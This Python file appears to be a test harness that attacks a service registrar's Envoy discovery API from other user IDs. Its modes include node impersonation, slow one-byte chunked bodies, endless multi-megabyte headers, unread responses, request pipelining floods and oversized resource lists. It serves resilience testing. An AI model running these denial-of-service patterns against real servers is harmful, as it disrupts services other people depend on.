"""An attack on the registrar's API (or on an Envoy) by other users, from a process of its own.

Run as a program, in any namespace:  attacker.py '{"kind": KIND, "address": "HOST:PORT", "count": N, ...}'
(``unix:PATH``: a Unix socket, where the kernel lets that user connect at all).
``users`` are taken in turn, one a connection: a TCP connection is its maker's, whoever uses it.  A
connection that is ended is made again.  It prints "attacking" once every connection was tried, and goes
on until it is killed.
"""

import asyncio
import itertools
import json
import os
import resource
import socket
import sys
from collections.abc import Awaitable, Callable
from typing import Any, NamedTuple

HEAD = "Host: localhost\r\nContent-Type: application/json\r\n"
SETTINGS: dict[str, Any] = {}
numbers = itertools.count()


class Peer(NamedTuple):
    number: int
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    async def answer(self) -> bytes:
        """The body of one answer."""
        head = (await self.reader.readuntil(b"\r\n\r\n")).lower()
        if b" 304 " in head.partition(b"\r\n")[0]:
            return b""
        if b"transfer-encoding: chunked" in head:
            body = b""
            while size := int(await self.reader.readuntil(b"\r\n"), 16):
                body += (await self.reader.readexactly(size + 2))[:-2]
            await self.reader.readexactly(2)
            return body
        return await self.reader.readexactly(int(head.partition(b"content-length:")[2].split()[0]))


def post(kind: str, body: bytes) -> bytes:
    head = f"POST /v3/discovery:{kind} HTTP/1.1\r\n{HEAD}Content-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def question(version: str, node: Any, **more: Any) -> bytes:
    return json.dumps({"version_info": version, "node": node, **more}).encode()


async def pose(peer: Peer) -> None:
    """Says that it is that Envoy: half agree with all they get, half refuse it; all do unless ``agree``."""
    kind = ("listeners", "clusters")[peer.number // 2 % 2]
    version = ""
    while True:
        await peer.send(post(kind, question(version, SETTINGS["node"])))
        body = await peer.answer()
        if body and peer.number % 2 and SETTINGS.get("agree", True):
            version = json.loads(body).get("version_info", "")


async def agree(peer: Peer) -> None:
    """An Envoy that nobody knows, with the longest name there is, agrees with all it gets."""
    node = {"id": f"{next(numbers):06d}" + "\U0001f600" * 90}
    version = ""
    while True:
        await peer.send(post("listeners", question(version, node)))
        version = json.loads(await peer.answer() or b"{}").get("version_info", version)


async def chunks(peer: Peer) -> None:
    """A body in chunks of one byte."""
    while True:
        await peer.send(
            f"POST /v3/discovery:listeners HTTP/1.1\r\n{HEAD}Transfer-Encoding: chunked\r\n\r\n".encode()
        )
        for _ in range(20):
            await peer.send(b"1\r\na\r\n" * 10_000)


async def pages(peer: Peer) -> None:
    """One page after another."""
    while True:
        await peer.send(f"GET {SETTINGS['path']} HTTP/1.1\r\n{HEAD}\r\n".encode())
        await peer.answer()


async def unread(peer: Peer) -> None:
    """Asks for pages, and does not read them."""
    await peer.send(f"GET {SETTINGS['path']} HTTP/1.1\r\n{HEAD}\r\n".encode())
    peer.writer.transport.pause_reading()  # type: ignore[attr-defined]
    await asyncio.sleep(3600)


async def pipeline(peer: Peer) -> None:
    """Small requests without end, and their answers are read."""

    async def read() -> None:
        while await peer.reader.read(1 << 16):
            pass

    reading = asyncio.create_task(read())
    try:
        while not reading.done():
            await peer.send(f"GET /healthz HTTP/1.1\r\n{HEAD}\r\n".encode() * 1000)
    finally:
        reading.cancel()


async def names(peer: Peer) -> None:
    """A held poll that names as many resources as there is room for."""
    node = {"id": f"made-up-{next(numbers)}"}
    wanted = [f"{number:x}" for number in range(31_000)]
    version = ""
    while True:
        await peer.send(post("listeners", question(version, node, resource_names=wanted)))
        version = json.loads(await peer.answer() or b"{}").get("version_info", version)


async def place(peer: Peer) -> None:
    """One good request, and then there."""
    await peer.send(f"GET /healthz HTTP/1.1\r\n{HEAD}\r\n".encode())
    await peer.reader.read()


async def heads(peer: Peer) -> None:
    """A request's head of 7.9 MB that never ends; that is to say, in 1 kB fields."""
    await peer.send(b"GET / HTTP/1.1\r\nHost: a\r\n")
    for number in range(7900):
        await peer.send(b"X-%d: %s\r\n" % (number, b"a" * 1000))
    await peer.reader.read()


KINDS: dict[str, Callable[[Peer], Awaitable[None]]] = {
    kind.__name__: kind for kind in (pose, agree, chunks, pages, unread, pipeline, names, place, heads)
}


async def connect(number: int) -> Peer:
    host, _, port = SETTINGS["address"].rpartition(":")
    users = SETTINGS["users"]
    os.seteuid(users[number % len(users)])
    try:
        if host == "unix":  # who may connect is judged when one connects
            sock = socket.socket(socket.AF_UNIX)
            try:
                sock.setblocking(False)
                sock.connect(port)
            except OSError:
                sock.close()
                raise
            return Peer(number, *await asyncio.open_unix_connection(sock=sock, limit=1 << 20))
        sock = socket.socket()
    finally:
        os.seteuid(0)
    sock.setblocking(False)
    if SETTINGS["kind"] == "unread":
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    await asyncio.get_running_loop().sock_connect(sock, (host, int(port)))
    return Peer(number, *await asyncio.open_connection(sock=sock, limit=1 << 20))


async def main() -> None:
    tried: set[int] = set()
    all_tried = asyncio.Event()

    async def one(number: int) -> None:
        # Not all in the order of their numbers, as a newcomer has another user than who goes.
        for again in itertools.count():
            try:
                peer = await connect(number + again * SETTINGS["count"])
            except OSError:
                peer = None
            tried.add(number)
            if len(tried) == SETTINGS["count"]:
                all_tried.set()
            if peer is not None:
                try:
                    await KINDS[SETTINGS["kind"]](peer)
                except (OSError, EOFError, ValueError, IndexError):
                    pass
                peer.writer.transport.abort()
            await asyncio.sleep(SETTINGS.get("pause", 0.2))

    tasks = [asyncio.create_task(one(number)) for number in range(SETTINGS["count"])]
    await all_tried.wait()
    print("attacking", flush=True)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    SETTINGS.update(json.loads(sys.argv[1]))
    asyncio.run(main())
